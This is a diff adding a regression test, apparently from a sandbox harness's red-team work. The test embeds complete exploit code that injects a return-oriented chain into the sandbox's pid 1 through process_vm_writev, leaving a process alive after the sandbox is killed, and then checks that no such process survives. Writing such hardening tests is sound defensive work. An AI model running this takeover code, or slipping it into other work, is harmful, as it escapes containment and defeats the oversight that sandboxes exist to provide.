@@ -116,3 +116,53 @@ print(json.dumps(out))
     assert got.pop("write") == 0 and got.pop("prctl_set_name") == 0
     assert got.pop("io_uring_setup") == [-1, errno.ENOSYS]
     assert got == {name: [-1, errno.EPERM] for name in got} and len(got) == 6, got
+
+
+# red team round fourteen: code under test took over the sandbox's pid 1 (bubblewrap's init) ----------------
+_PID1_TAKEOVER = 'def _r14_takeover():\n    import ctypes, os, struct, time\n    libc = ctypes.CDLL(None, use_errno=True)\n\n    class iov(ctypes.Structure):\n        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]\n\n    def vm(fn, addr, data):\n        buf = ctypes.create_string_buffer(data, len(data)) if isinstance(data, bytes) else ctypes.create_string_buffer(data)\n        n = len(buf.raw) if isinstance(data, bytes) else data\n        local, remote = iov(ctypes.cast(buf, ctypes.c_void_p), n), iov(addr, n)\n        if fn(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) != n:\n            raise OSError(ctypes.get_errno(), "process_vm")\n        return buf.raw\n\n    def symbol(elf, name):  # a dynamic symbol\'s offset in the file (ELF64)\n        shoff, shentsize, shnum = struct.unpack_from("<Q", elf, 0x28)[0], *struct.unpack_from("<HH", elf, 0x3A)\n        secs = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]\n        dynsym = next(x for x in secs if x[1] == 11)\n        strtab = secs[dynsym[6]]\n        for at in range(dynsym[4], dynsym[4] + dynsym[5], 24):\n            st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", elf, at)\n            end = elf.index(b"\\0", strtab[4] + st_name)\n            if elf[strtab[4] + st_name:end] == name and st_value:\n                return st_value\n\n    maps = [line.split() for line in open("/proc/1/maps").read().splitlines()]\n    code = [tuple(int(x, 16) for x in m[0].split("-")) for m in maps if "x" in m[1]]\n    lc = next(m for m in maps if m[-1].endswith("/libc.so.6") and "x" in m[1])\n    base = int(lc[0].split("-")[0], 16) - int(lc[2], 16)\n    elf = open(lc[-1], "rb").read()\n    pop_rdi, pop_rsi = base + elf.find(b"\\x5f\\xc3", int(lc[2], 16)), base + elf.find(b"\\x5e\\xc3", int(lc[2], 16))\n    ret, execv = base + elf.find(b"\\xc3", int(lc[2], 16)), base + symbol(elf, b"execv")\n    sp = int(open("/proc/1/syscall").read().split()[-2], 16)\n    stack = vm(libc.process_vm_readv, sp, 512)\n    slot = next(sp + i for i in range(0, 512, 8) if any(a <= struct.unpack_from("<Q", stack, i)[0] < b for a, b in code))\n    strs = [b"/usr/bin/python3\\0", b"-c\\0",\n            b"import ctypes, time; ctypes.CDLL(None).prctl(1, 0); time.sleep(60)  # loop-test-pid1-survivor\\0"]\n    data = slot + 128\n    addrs, p = [], data + 32\n    for s in strs:\n        addrs.append(p)\n        p += len(s)\n    chain = [pop_rdi, addrs[0], pop_rsi, data]\n    if (slot + 8 * len(chain) + 8) % 16 != 8:  # the stack aligned as at a call\n        chain.append(ret)\n    chain.append(execv)\n    blob = b"".join(struct.pack("<Q", x) for x in chain).ljust(128, b"\\0") + struct.pack("<4Q", *addrs, 0) + b"".join(strs)\n    vm(libc.process_vm_writev, slot, blob)\n    if os.fork() == 0:  # an orphan for pid 1 to reap: its wait4 returns into the chain\n        if os.fork() == 0:\n            os._exit(0)\n        os._exit(0)\n    os.wait()\n'
+
+
+@pytest.mark.sandbox
+def test_a_sandbox_whose_pid1_was_taken_over_ends_with_its_run():
+    """Code under test wrote a return-oriented chain into bubblewrap's init with process_vm_writev: pid 1 exec'd a
+    process that cleared its parent-death signal, and killing bwrap at the deadline left it and its namespace
+    running. loop kills pid 1 itself (a pidfd of the host pid bwrap reports on --info-fd), and pid 1 runs under
+    the sandbox's rlimits."""
+    import os
+    import time
+
+    from loop.sandbox import Limits, SandboxConfig, run
+
+    probe = _PID1_TAKEOVER + r"""
+import sys
+print(open("/proc/1/limits").read().split("Max file size")[1].split()[0], flush=True)
+_r14_takeover()
+for _ in range(50):
+    if b"loop-test-pid1-survivor" in open("/proc/1/cmdline", "rb").read():
+        print("taken", flush=True)
+        break
+    time.sleep(0.05)
+time.sleep(30)
+"""
+    cfg = SandboxConfig()
+    for _ in range(3):  # the takeover reads pid 1's stack while it waits: it may miss once
+        res = run(cfg, [cfg.interpreter(), "-I", "-c", probe], limits=Limits(wall=3.0), env={"PATH": "/usr/bin:/bin"})
+        said = res.stdout.decode().split()
+        if "taken" in said:
+            break
+    assert said[:2] == [str(Limits().fsize_mb << 20), "taken"], (said, res.stderr.decode()[-500:])
+
+    def survivors() -> list[int]:
+        found = []
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                if b"loop-test-pid1-survivor" in open(f"/proc/{pid}/cmdline", "rb").read():
+                    found.append(int(pid))
+            except OSError:
+                pass
+        return found
+
+    deadline = time.monotonic() + 2
+    while survivors() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert survivors() == []
